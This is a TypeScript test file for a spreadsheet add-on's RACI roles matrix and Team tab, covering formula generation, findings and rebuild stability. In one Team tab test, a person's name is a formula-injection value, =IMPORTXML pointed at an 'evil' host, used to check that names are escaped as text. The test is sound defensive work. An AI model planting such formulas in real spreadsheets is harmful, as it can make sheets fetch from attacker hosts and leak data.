import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { columnLetters, a1Range } from '../../../src/core/a1-notation';
import { DEFAULT_ROLES, DIRECTIONS, RACI_LETTERS } from '../../../src/core/raci';
import { rolesTabFindings as findingsOfView } from '../../../src/core/roles-tab/roles-tab-findings';
import { positionalRolesView } from '../../../src/core/roles-tab/roles-tab-view';
import { buildTeamTabModel } from '../../../src/core/roles-tab/team-tab-model';
import {
  nativeDirectionCheckFormula,
  nativeRoleLoadFormula,
  nativeStaffingFormula,
} from '../../../src/core/raci/native-formulas';
import { build, person, rebuild, teamWith, typeInto } from './roles-fixtures';

/** A tab built before anchoring, read by its formulas and labels (the anchored reading is tested on the bundle). */
function rolesTabFindings(
  region: Parameters<typeof positionalRolesView>[0],
  layout: Parameters<typeof findingsOfView>[1],
  lang: Parameters<typeof findingsOfView>[2],
) {
  const view = positionalRolesView(region);
  return view ? findingsOfView(view, layout, lang) : null;
}

describe('A1 notation', () => {
  it('goes past Z', () => {
    expect([1, 26, 27, 52, 53, 702, 703].map(columnLetters)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
    expect(a1Range(2, 2, 12, 30)).toBe('B2:AE13');
  });
});

describe('the Roles tab model', () => {
  it('puts a native check beside each direction, one under each column, and the staffing check under the matrix', () => {
    const b = build(teamWith({ companyHeadcount: 60, people: [person('a', 'Anna', 'head')] }));
    const grid = b.model.grid;
    expect(grid[0]?.slice(0, 6)).toEqual(['Direction', ...DEFAULT_ROLES.map((r) => r.name.en), 'Check']);
    // Rendered from core (core/raci/native-formulas.ts), over each line: no custom function.
    expect(grid[1]?.[5]).toBe(nativeDirectionCheckFormula('B2:E2', '$B$1:$E$1', 'en'));
    expect(grid[12]?.[5]).toBe(nativeDirectionCheckFormula('B13:E13', '$B$1:$E$1', 'en'));
    expect(grid[13]?.[0]).toBe('Load (R · A)');
    expect(grid[13]?.slice(1, 5)).toEqual(
      ['B', 'C', 'D', 'E'].map((column) =>
        nativeRoleLoadFormula(`${column}$2:${column}$13`, '$A$2:$A$13', '$B$18', 'en'),
      ),
    );
    expect(grid[15]?.slice(0, 2)).toEqual(['Company head count', 60]);
    expect(grid[16]?.slice(0, 2)).toEqual(['People in the marketing department', 1]);
    expect(grid[17]?.slice(0, 2)).toEqual(['Most directions one role may be responsible (R) for', 4]);
    expect(grid[18]?.[1]).toBe(
      nativeStaffingFormula(
        'B16',
        'B17',
        "Enter the company's head count and the department's people in the sidebar (Team & roles)",
        'en',
      ),
    );
    expect(grid.flat().join('\n')).not.toMatch(/RACI_CHECK|ROLE_LOAD|STAFFING_CHECK/);
    expect(b.model.matrix).toEqual({ row: 2, column: 2, rows: 12, columns: 4 });
    expect(b.model.namedRange.name).toBe('RACI_Matrix');
  });

  it("writes its checks in the template's language", () => {
    const grid = build(teamWith(), null, null, 'ru').model.grid;
    expect(grid[1]?.[5]).toBe(nativeDirectionCheckFormula('B2:E2', '$B$1:$E$1', 'ru'));
  });

  it('leaves the head count and people blank until known, so the staffing cell shows a hint', () => {
    const grid = build(teamWith()).model.grid;
    expect(grid[15]?.[1]).toBe('');
    expect(grid[16]?.[1]).toBe('');
  });

  it('colours an overloaded role by the word ROLE_LOAD adds, in either language', () => {
    const texts = build(teamWith()).model.conditionalRules.flatMap((rule) =>
      rule.when.kind === 'text_contains' ? [rule.when.text] : [],
    );
    expect(texts).toEqual(['overloaded', 'перегрузка', 'A', 'R']);
  });

  it('has a drop-down of the letters the core reads, allowing other cells so the checks can name them', () => {
    const model = build(teamWith()).model;
    expect(model.validation.values).toEqual(['R', 'A', 'C', 'I', 'R/A']);
  });

  it('addresses a matrix of 30 people past column Z', () => {
    const people = Array.from({ length: 30 }, (_, i) =>
      person(`p${i}`, `Person ${i}`, DEFAULT_ROLES[i % 4]?.id ?? 'head'),
    );
    const model = build(teamWith({ matrixColumns: 'people', people })).model;
    expect(model.grid[1]?.[31]).toBe(nativeDirectionCheckFormula('B2:AE2', '$B$1:$AE$1', 'en'));
  });

  it('flags kept columns and added rows with notes and colours, and protects only its own computed cells', () => {
    const first = build(teamWith());
    const team = teamWith();
    team.roles.pop();
    const second = rebuild(first, team, (values, formulas) => {
      values.splice(13, 0, ['Events', 'A', 'R', '', '', '']);
      formulas.splice(13, 0, ['', '', '', '', '', '']);
    });
    expect(second.model.header.notes.at(-2)).toMatch(/Not in the team any more/);
    expect(second.model.header.backgrounds.at(-2)).not.toBe(second.model.header.backgrounds[1]);
    expect(second.model.labelNotes.notes.at(-1)).toMatch(/Not one of the twelve directions/);
    expect(second.model.protections.map((p) => [p.kind, p.description.startsWith('Marketing KPI:')])).toEqual([
      ['computed', true],
      ['computed', true],
      ['computed', true],
      ['structure', true],
    ]);
    expect(second.model.protections.at(-1)?.range).toEqual(second.model.block);
  });
});

describe('the findings the sidebar shows', () => {
  it('are none for the default matrix, and the staffing check speaks once the figures are known', () => {
    expect(rolesTabFindings(build(teamWith()).region, null, 'en')).toEqual([]);
    const small = build(
      teamWith({ companyHeadcount: 80, people: [person('a', 'Anna', 'head'), person('b', 'Boris', 'pr-manager')] }),
    );
    const findings = rolesTabFindings(small.region, small.layout, 'en') ?? [];
    expect(findings.map((f) => f.text)).toEqual([
      expect.stringMatching(/^2 people in the department for a company of 80 employees/),
    ]);
    expect(findings[0]?.why).toMatch(/three or more/);
  });

  it("name the direction and the role, in the user's language", () => {
    const first = build(teamWith());
    const second = rebuild(first, teamWith(), (values) => {
      typeInto(first, values, 'PR', 'PR manager', 'A');
      typeInto(first, values, 'Strategy', 'Head of marketing', 'C');
    });
    const texts = (rolesTabFindings(second.region, second.layout, 'en') ?? []).map((f) => f.text);
    expect(texts).toEqual([
      'Strategy: no one is accountable (A)',
      'Strategy: no one is responsible (R)',
      'PR: 2 are accountable (A): Head of marketing, PR manager — keep exactly one',
      'PR: no one is responsible (R)',
    ]);
    const ru = (rolesTabFindings(second.region, second.layout, 'ru') ?? []).map((f) => f.text);
    expect(ru[0]).toBe('Strategy: нет ответственного (A)');
  });

  it('list unreadable cells instead of counting them, and the kept columns', () => {
    const first = build(teamWith());
    const team = teamWith();
    team.roles.pop();
    const second = rebuild(first, team);
    const third = rebuild(second, team, (values) => typeInto(second, values, 'SMM', 'Internet marketer', 'X'));
    const findings = rolesTabFindings(third.region, third.layout, 'en') ?? [];
    expect(findings.map((f) => f.text)).toEqual([
      'SMM × Internet marketer: "X" is not R, A, C or I',
      'Content engineer (contractor): no longer in the team, yet its letters are kept and still counted',
    ]);
  });

  it('are null for a tab the add-on did not make', () => {
    expect(rolesTabFindings({ values: [['a']], formulas: [['']] }, null, 'en')).toBeNull();
  });

  it('count overload at the limit the tab holds', () => {
    const team = teamWith({ maxResponsible: 2 });
    const findings = rolesTabFindings(build(team).region, null, 'en') ?? [];
    expect(findings.map((f) => f.text)).toEqual([
      'Internet marketer is responsible (R) for 3 directions, above the limit of 2: split the work or hire',
      'PR manager is responsible (R) for 4 directions, above the limit of 2: split the work or hire',
      'Content engineer (contractor) is responsible (R) for 3 directions, above the limit of 2: split the work or hire',
    ]);
  });
});

describe('every letter survives any rebuild', () => {
  const letterCell = fc.oneof(
    fc.constant(''),
    fc.constantFrom(...RACI_LETTERS),
    fc.constantFrom('R/A', 'a', 'c, i', 'X'),
  );
  it('over random edits and random added, renamed and reordered roles', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(DIRECTIONS.length - 1), fc.nat(3), letterCell), { maxLength: 20 }),
        fc.boolean(),
        fc.boolean(),
        (edits, addRole, renameFirst) => {
          const first = build(teamWith());
          const team = teamWith();
          if (addRole) team.roles.unshift({ id: 'designer', name: 'Designer', contractor: true });
          if (renameFirst) team.roles = team.roles.map((r) => (r.id === 'head' ? { ...r, name: 'CMO' } : r));
          const expected = new Map<string, unknown>();
          const second = rebuild(first, team, (values) => {
            for (const [row, column, text] of edits) {
              const cells = values[1 + row];
              if (cells) cells[1 + column] = text;
              expected.set(`${row}|${DEFAULT_ROLES[column]?.id}`, text);
            }
          });
          for (const [key, text] of expected) {
            const [row, roleId] = key.split('|');
            const column = second.plan.columns.findIndex((c) => c.id === `role:${roleId}`);
            expect(second.plan.cells[Number(row)]?.[column]).toBe(text);
          }
        },
      ),
      { numRuns: 100 },
    );
  });
});

describe('the Team tab model', () => {
  it('lists the people with their role names, cost in the currency, and text written as text', () => {
    const team = teamWith(
      {
        people: [
          person('a', '=IMPORTXML("http://evil", "//a")', 'head', { email: 'a@example.com', monthlyCost: 250000 }),
          person('b', 'Boris', 'content-engineer', { employment: 'contractor' }),
        ],
      },
      'ru',
    );
    const model = buildTeamTabModel(team, 'ru', 'RUB');
    expect(model.tabName).toBe('Команда');
    expect(model.rows).toEqual([
      ['\'=IMPORTXML("http://evil", "//a")', 'a@example.com', 'Руководитель отдела', 250000, 'Штат'],
      ['Boris', '', 'Контент-инженер (подряд)', '', 'Подряд'],
    ]);
    expect(model.numberFormats[3]).toBe('#,##0 "₽"');
  });
});
